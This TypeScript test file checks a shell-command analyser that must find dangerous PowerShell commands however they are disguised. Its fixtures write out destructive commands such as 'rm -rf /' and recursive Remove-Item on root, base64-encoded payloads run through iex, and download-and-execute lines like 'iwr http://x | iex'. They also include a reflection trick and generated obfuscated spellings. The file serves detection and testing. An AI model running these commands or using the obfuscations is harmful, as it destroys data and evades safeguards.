import * as fc from 'fast-check'
import t from 'tap'
import type { AliasTable } from '../../../../src/core/shell/alias-table.ts'
import { analyseWithin, newLineBudget } from '../../../../src/core/shell/analyse.ts'
import type { Analysis, CommandFacts } from '../../../../src/core/shell/facts.ts'

const NO_ALIASES: AliasTable = { regular: new Map(), global: new Map(), suffix: new Map() }

function read(line: string, aliases = NO_ALIASES): Analysis {
  return analyseWithin({ line, shell: 'powershell', cwd: '/here', home: '/home/u', aliases }, newLineBudget())
}

/** `via > program operands -flags`. */
function shown({ via, program, operands, flags }: CommandFacts): string {
  const words = operands.map(({ text }) => text.replaceAll('\uFFFC', '¿'))
  return [...via, [program ?? '¿', ...words, ...[...flags.keys()].map((name) => `-${name}`)].join(' ')].join(' > ')
}

function show(line: string, aliases = NO_ALIASES): readonly string[] {
  return read(line, aliases).commands.map(shown)
}

/** Line, and a command that must be found in it. */
const FOUND: readonly (readonly [line: string, command: string])[] = [
  ['Remove-Item -Recurse -Force /', 'remove-item / -recurse -force -path'],
  ['rEMOVE-iTEM / -Rec -Fo', 'remove-item / -recurse -force -path'],
  ['Remove-Item -Path:/ -r -fo', 'remove-item / -path -recurse -force'],
  ['Remove-Item -LiteralPath / -Recurse:$true', 'remove-item / -literalpath -recurse'],
  ['Remove-Item –Recurse —Force /', 'remove-item / -recurse -force -path'],
  ['ri / -r; del / -r; erase / -r; rd / -r', 'remove-item / -recurse -path'],
  ['rm -r -fo /', 'rm > remove-item / -recurse -force -path'],
  ['rm -rf /', 'rm / -r -f'],
  ['Microsoft.PowerShell.Management\\Remove-Item / -Recurse', 'remove-item / -recurse -path'],
  ['re`mov`e-It`em /', 'remove-item / -path'],
  ['Rem"ove-It"em /', 'remove-item / -path'],
  ["& 'Remove-Item' /", 'remove-item / -path'],
  ['& "Remove-$(\'Item\')" /', 'remove-item / -path'],
  ["& ('Remove' + '-' + 'Item') /", 'remove-item / -path'],
  ["& ('{1}-{0}' -f 'Item', 'Remove') /", 'remove-item / -path'],
  ["& ('Remove', 'Item' -join '-') /", 'remove-item / -path'],
  ["& (-join ('r', 'i')) /", 'remove-item / -path'],
  ["& ('xRemovexItem'.Replace('x', '-').Substring(1)) /", 'remove-item / -path'],
  ["& ('Remove_Item' -replace '_', '-') /", 'remove-item / -path'],
  ['& ([char]114 + [char]105) /', 'remove-item / -path'],
  ['& (-join (114, 105 | % { [char]$_ })) /', 'remove-item / -path'],
  ['& (-join [char[]](114, 105)) /', 'remove-item / -path'],
  ["& (-join 'ir'[1..0]) /", 'remove-item / -path'],
  ['$a = \'Remove\'; $b = "$a-Item"; & $b /', 'remove-item / -path'],
  ['Set-Variable c ri; & $c /', 'remove-item / -path'],
  ['. Remove-Item /', 'remove-item / -path'],
  ['& (Get-Command Remove-Item) /', 'remove-item / -path'],
  ['$p = @{ Path = "/"; Recurse = $true }; Remove-Item @p', 'remove-item / -path -recurse'],
  ["$p = '/', '-x'; Remove-Item @p", 'remove-item / -x -path'],
  ["'/', '/etc' | Remove-Item -Recurse", 'remove-item / /etc -recurse'],
  ['gci / | ri -r', 'remove-item /* -recurse'],
  ["'/' | % { Remove-Item $_ -Recurse }", 'remove-item / -recurse -path'],
  ["foreach ($d in '/', '/etc') { Remove-Item $d }", 'remove-item /etc -path'],
  ['Remove-Item ~\\x, "~", $HOME, $env:USERPROFILE/y', 'remove-item /home/u/x /home/u /home/u /home/u/y -path'],
  ['Remove-Item FileSystem::/etc', 'remove-item /etc -path'],
  ['Remove-Item \\etc -Recurse', 'remove-item /etc -recurse -path'],
  ["Invoke-Expression 'rm -rf /'", 'invoke-expression > rm / -r -f'],
  ["iex ('rm -' + 'rf /')", 'invoke-expression > rm / -r -f'],
  ["'rm -rf /' | iex", 'invoke-expression > rm / -r -f'],
  ["iex @'\nrm -rf /\n'@", 'invoke-expression > rm / -r -f'],
  [
    "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('cgBtACAALQByAGYAIAAvAA==')))",
    'invoke-expression > rm / -r -f',
  ],
  [
    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cm0gLXJmIC8=')))",
    'invoke-expression > rm / -r -f',
  ],
  ["& ([scriptblock]::Create('rm -rf /'))", '[scriptblock]::create > rm / -r -f'],
  ["$ExecutionContext.InvokeCommand.InvokeScript('rm -rf /')", 'invokescript > rm / -r -f'],
  ['$b = { ri / }; & $b', 'remove-item / -path'],
  ['& { ri $args[0] } /', 'remove-item / -path'],
  ['function f($x) { ri / }; f', 'f > remove-item / -path'],
  ['powershell -nop -w hidden -enc cgBtACAALQByAGYAIAAvAA==', 'powershell -EncodedCommand > rm / -r -f'],
  ['powershell.exe -Command "ri / -r"', 'powershell -Command > remove-item / -recurse -path'],
  ['pwsh -c { ri / }', 'pwsh -Command > remove-item / -path'],
  ["bash -c 'rm -rf /'", 'bash -c > rm / -r -f'],
  ['sudo rm -rf /', 'sudo > rm / -r -f'],
  ['wsl -d x -- rm -rf /', 'wsl > rm / -r -f'],
  ['cmd /c "rd /s /q C:\\"', 'cmd /c > rm C:/ -r -f'],
  ['& "C:\\Windows\\System32\\cmd.exe" /c del /s x', 'cmd /c > rm x -r'],
  ['cmd.exe /c r^d /s C:\\', 'cmd /c > rm C:/ -r'],
  ["Start-Process rm -ArgumentList '-rf /'", 'start-process > rm / -r -f'],
  ["saps -FilePath rm -Args '-rf', '/' -Verb RunAs", 'start-process -Verb RunAs > rm / -r -f'],
  ['Invoke-Command -ScriptBlock { ri / }', 'remove-item / -path'],
  ['Start-Job { ri / } | Out-Null', 'remove-item / -path'],
  ['if ($x) { a } elseif (ri /) { b } else { c }', 'remove-item / -path'],
  ['switch (1) { 1 { ri / } default { x } }', 'remove-item / -path'],
  ['try { a } catch [Exception] { b } finally { ri / }', 'remove-item / -path'],
  ['do { ri / } while ($false)', 'remove-item / -path'],
  ['for ($i = 0; $i -lt 3; $i++) { ri / }', 'remove-item / -path'],
  ['a && ri / || b', 'remove-item / -path'],
  ['$x = ri /', 'remove-item / -path'],
  ['@(ri /)[0]; "$(ri /etc)"; @{ a = ri /usr }', 'remove-item /usr -path'],
  ['param($x = (ri /))', 'remove-item / -path'],
  ['[void](ri /)', 'remove-item / -path'],
  ['$x.Foo((ri /))', 'remove-item / -path'],
  ['class A { [int] F() { ri /; return 1 } }', 'remove-item / -path'],
  ['[ValidateScript({ ri / })]$x = 1', 'remove-item / -path'],
  ['<# x #> ri / # y', 'remove-item / -path'],
  ['ri `\n  /', 'remove-item / -path'],
  ["[IO.Directory]::Delete('/etc', $true)", '[io.directory]::delete > remove-item /etc -recurse -force -path'],
  ["[System.IO.File]::WriteAllText('/etc/passwd', 'x')", '[io.file]::writealltext > set-content /etc/passwd -path'],
  [
    "(New-Object Net.WebClient).DownloadFile('http://x', 'y')",
    'downloadfile > invoke-webrequest http://x -outfile -uri',
  ],
  ['sal zap ri; zap -r /', 'zap > remove-item / -recurse -path'],
  ["$alias:zap = 'ri'; zap /", 'zap > remove-item / -path'],
  ['gci / | % { ri $_.FullName -r }', 'remove-item /* -recurse -path'],
  ['Remove-Item / -Recurse -WhatIf:$x', 'remove-item / -recurse -path'],
  ['"Remove-Item -Recurse /" | pwsh', 'pwsh > remove-item / -recurse -path'],
  ['cmd /c "powershell -c ri / -r"', 'cmd /c > powershell -Command > remove-item / -recurse -path'],
  [
    'Start-Process powershell -ArgumentList "-c", "ri / -r"',
    'start-process > powershell -Command > remove-item / -recurse -path',
  ],
  ['$env:X = "ri"; & $env:X /', 'remove-item / -path'],
  ['Set-Location /; Remove-Item * -Recurse', 'remove-item * -recurse -path'],
  ['sal zap Remove-Item; zap /', 'zap > remove-item / -path'],
  ['ri --% /x "a b"', 'remove-item /x a b -path'],
]

t.test('analyse finds the commands of a PowerShell line, however they are written', async (t) => {
  for (const [line, command] of FOUND) {
    const commands = show(line)
    t.ok(commands.includes(command), `${line}: ${commands.join(' ; ')}`)
    t.notOk(read(line).dynamic.includes('parse-error'), line)
  }
})

t.test('analyse takes text for data where PowerShell does', async (t) => {
  const data: readonly (readonly [string, readonly string[]])[] = [
    ["Write-Output 'Remove-Item /'", ['write-output Remove-Item / -inputobject']],
    ['git commit -m "Remove-Item /; ri /"', ['git commit -m']],
    ['$x = "ri /"', []],
    ['# ri /', []],
    ['<#\nri /\n#>', []],
    ["@'\n$(ri /)\n'@", []],
    ["'$(ri /)'", []],
    ['Remove-Item x -WhatIf', ['remove-item x -whatif -path']],
    ['Remove-Item x -Recurse:$false', ['remove-item x -path']],
    ['[math]::Round(1.5); (Get-Date).AddDays(-1)', ['get-date']],
  ]
  for (const [line, commands] of data) t.strictSame([show(line), read(line).dynamic], [commands, []], line)
})

t.test('analyse says which PowerShell code nobody can read before it runs, and what feeds it', async (t) => {
  const cases: readonly (readonly [line: string, program: string, from: string | undefined])[] = [
    ['iwr http://x | iex', 'invoke-expression', 'invoke-webrequest'],
    ['iex (iwr http://x)', 'invoke-expression', 'invoke-webrequest'],
    ['iex (iwr http://x).Content', 'invoke-expression', 'invoke-webrequest'],
    ['(irm http://x) | iex', 'invoke-expression', 'invoke-restmethod'],
    ["iex ((New-Object Net.WebClient).DownloadString('http://x'))", 'invoke-expression', 'invoke-webrequest'],
    ['iex "$(curl http://x)"', 'invoke-expression', 'curl'],
    ['iex $x', 'invoke-expression', undefined],
    ['iwr x | powershell -', 'powershell', 'invoke-webrequest'],
    ['Remove-Item @x', 'remove-item', undefined],
    ['gci | % Delete', 'foreach-object', 'get-childitem'],
    ['Add-Type -TypeDefinition $x', 'add-type', undefined],
  ]
  for (const [line, program, from] of cases) {
    const found = read(line).commands.filter(({ dynamic }) => dynamic.includes('dynamic-eval'))
    t.ok(
      found.some((command) => command.program === program && (from === undefined || command.from.includes(from))),
      line,
    )
  }
  for (const line of ['& $x /', '& (Get-Command r*m) /', '& $x.Name', '. ("ie" + $y)', '$x.$y("z")'])
    t.ok(read(line).dynamic.includes('dynamic-name'), line)
  for (const line of [
    '(Get-Item /).Delete()',
    '$x.Invoke()',
    "Invoke-CimMethod Win32_Process -MethodName Create -Arguments @{ CommandLine = 'x' }",
    "[Ref].Assembly.GetType('X').GetField('y', 'NonPublic,Static').SetValue($null, $true)",
    '[Reflection.Assembly]::Load($x)',
    '[scriptblock]::Create($x)',
    '[Activator]::CreateInstance($t)',
    '$s.Run($x)',
  ])
    t.ok(read(line).dynamic.includes('dynamic-eval'), line)
})

t.test('analyse reports what is no PowerShell, and lists what it found all the same', async (t) => {
  for (const line of [
    'ri / )',
    'ri / }',
    'if ($x) ri /',
    'ri "/',
    "ri '/",
    'ri (/',
    'ri / |',
    'ri / | | a',
    'ri / >',
    'ri < /',
    "@'\nri /",
    'ri / &&',
    'if (ri /',
    '"a" ri',
    'ri / <# x',
  ]) {
    t.ok(read(line).dynamic.includes('parse-error'), line)
  }
  t.ok(show('ri / )').includes('remove-item / -path'))
  t.ok(show('ri / | | a').includes('remove-item / -path'))
})

t.test('aliases of the user are read in any case, and only as names', async (t) => {
  const aliases: AliasTable = {
    ...NO_ALIASES,
    regular: new Map([
      ['Zap', 'Remove-Item'],
      ['ri', 'Remove-Item'],
    ]),
  }
  t.strictSame(show('ri /', aliases), ['remove-item / -path'], 'an alias that everybody has is no other name')
  t.ok(show('zap -r /', aliases).includes('zap > remove-item / -recurse -path'))
  t.ok(show("& 'ZAP' /", aliases).includes('ZAP > remove-item / -path'))
  t.strictSame(show('./zap /', aliases), ['zap /'])
})

t.test('analyse follows directories, variables and redirections of PowerShell', async (t) => {
  t.strictSame(
    read('cd /etc; ri *; Set-Location $x; ri a').commands.map(({ program, cwd }) => [program, cwd]),
    [
      ['set-location', '/here'],
      ['remove-item', '/etc'],
      ['set-location', '/etc'],
      ['remove-item', null],
    ],
  )
  const { commands, assignments } = read("$env:Path = 'x'; Set-Item env:HISTFILE y; echo a > ~/.bashrc 2>&1 *>> z")
  t.strictSame(
    [
      [...assignments].map(([name, { text }]) => [name, text]),
      commands.at(-1)?.redirects.map(({ operator, fd, target }) => [operator, fd, target.text]),
    ],
    [
      [
        ['PATH', 'x'],
        ['HISTFILE', 'y'],
      ],
      [
        ['>', null, '/home/u/.bashrc'],
        ['>&', 2, '1'],
        ['&>>', null, 'z'],
      ],
    ],
  )
})

/** The same name in quotes, escapes and expressions. */
function disguised(name: string): fc.Arbitrary<string> {
  const bare = fc.tuple(
    ...Array.from(name, (letter, at) =>
      fc.constantFrom(
        letter,
        letter.toUpperCase(),
        ...(at % 2 === 1 ? [`'${letter}'`, `"${letter}"`, `"$('${letter}')"`] : []),
        ...(/[a-z]/.test(letter) && !'abefnrtuv0'.includes(letter) ? ['`' + letter] : []),
      ),
    ),
  )
  const letters = Array.from(name, (letter) => `'${letter}'`).join(', ')
  const codes = Array.from(name, (letter) => letter.charCodeAt(0)).join(', ')
  const half = Math.floor(name.length / 2)
  return fc.oneof(
    bare.map((pieces) => pieces.join('')),
    fc.constantFrom(
      `& '${name}'`,
      `. "${name}"`,
      `& (${letters} -join '')`,
      `& (-join (${letters}))`,
      `& (-join [char[]](${codes}))`,
      `& (-join (${codes} | % { [char]$_ }))`,
      `& ('${name.slice(0, half)}' + '${name.slice(half)}')`,
      `& ('{1}{0}' -f '${name.slice(half)}', '${name.slice(0, half)}')`,
      `& "${name.slice(0, half)}$('${name.slice(half)}')"`,
      `$a = '${name}'; & $a`,
      `$a = '${name.slice(0, half)}'; & ($a + '${name.slice(half)}')`,
      `& { & '${name}' @args }`,
      `function f { & '${name}' @args }; f`,
    ),
  )
}

t.test('no spelling of a name hides it in PowerShell', async () => {
  fc.assert(
    fc.property(
      fc.constantFrom('remove-item', 'ri', 'del').chain((name) => disguised(name)),
      fc.constantFrom('', 'if (1) { ', '$x = ', 'a; '),
      (spelling, before) => {
        const line = `${before}${spelling} -Recurse /${before.startsWith('if') ? ' }' : ''}`
        if (before === '$x = ' && spelling.startsWith('$')) return true
        return show(line).some((command) => command.includes('remove-item /') && command.includes('-recurse'))
      },
    ),
    { numRuns: 1_000 },
  )
})
